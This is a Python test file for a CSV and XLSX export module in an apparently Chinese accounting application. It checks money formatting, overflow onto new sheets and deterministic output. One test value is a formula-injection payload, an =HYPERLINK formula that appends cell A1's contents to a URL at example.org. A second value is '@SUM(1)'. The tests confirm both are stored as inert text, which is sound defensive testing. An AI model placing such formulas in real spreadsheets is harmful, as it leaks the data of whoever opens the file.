"""Tables as files: opened by the programs that read such files, every fen there, nothing run as a formula."""

import csv
import io

import pytest
from python_calamine import CalamineWorkbook

from api.files.table_files import Column, Table, csv_parts, xlsx_parts

ATTACK = '=HYPERLINK("https://example.org?"&A1)'
COLUMNS = (Column("名称"), Column("金额", "fen"), Column("笔数", "number"))
ROWS = [("张国,\n“强”", 123_456_789_01, 3), (ATTACK, 5, None), ("@SUM(1)", None, 0), ("", 10**15 + 1, 12)]


def table(title: str = "科目余额表") -> Table:
    return Table(title, COLUMNS, iter(ROWS), "到 2026-03-31")


def test_csv_opens_with_every_value_and_no_formula() -> None:
    content = b"".join(csv_parts(table()))
    assert content.startswith(b"\xef\xbb\xbf"), "or Excel in China reads GBK"
    found = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert found == [
        ["名称", "金额", "笔数"],
        ["张国,\n“强”", "123456789.01", "3"],
        ["'" + ATTACK, "0.05", ""],
        ["'@SUM(1)", "", "0"],
        ["", "10000000000000.01", "12"],
    ]


def test_xlsx_opens_with_amounts_as_numbers_and_texts_as_texts() -> None:
    content = b"".join(xlsx_parts([table(), table("总账")], about=["不声明符合标准"]))
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    assert book.sheet_names == ["科目余额表", "总账", "说明"]
    assert book.get_sheet_by_name("总账").to_python() == [
        ["名称", "金额", "笔数"],
        ["张国,\n“强”", 123456789.01, 3],
        [ATTACK, 0.05, ""],
        ["@SUM(1)", "", 0],
        ["", "10000000000000.01", 12],
    ]
    assert b"<f>" not in content
    notes = [row[0] for row in book.get_sheet_by_name("说明").to_python()]
    assert notes == ["不声明符合标准", "科目余额表：到 2026-03-31", "总账：到 2026-03-31"]


def test_the_same_table_gives_the_same_bytes() -> None:
    assert b"".join(xlsx_parts([table()])) == b"".join(xlsx_parts([table()]))


def test_rows_beyond_a_sheet_go_to_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("api.files.table_files.ROWS_MAX", 3)
    book = CalamineWorkbook.from_filelike(io.BytesIO(b"".join(xlsx_parts([table()]))))
    assert book.sheet_names[:2] == ["科目余额表", "科目余额表 2"]
    assert book.get_sheet_by_name("科目余额表 2").to_python() == [
        ["名称", "金额", "笔数"],
        ["", "10000000000000.01", 12],
    ]


def test_an_empty_table_is_its_heading() -> None:
    empty = Table("总账", COLUMNS, ())
    assert b"".join(csv_parts(empty)).decode("utf-8-sig") == "名称,金额,笔数\r\n"
    book = CalamineWorkbook.from_filelike(io.BytesIO(b"".join(xlsx_parts([Table("总账", COLUMNS, ())]))))
    assert book.get_sheet_by_name("总账").to_python() == [["名称", "金额", "笔数"]]
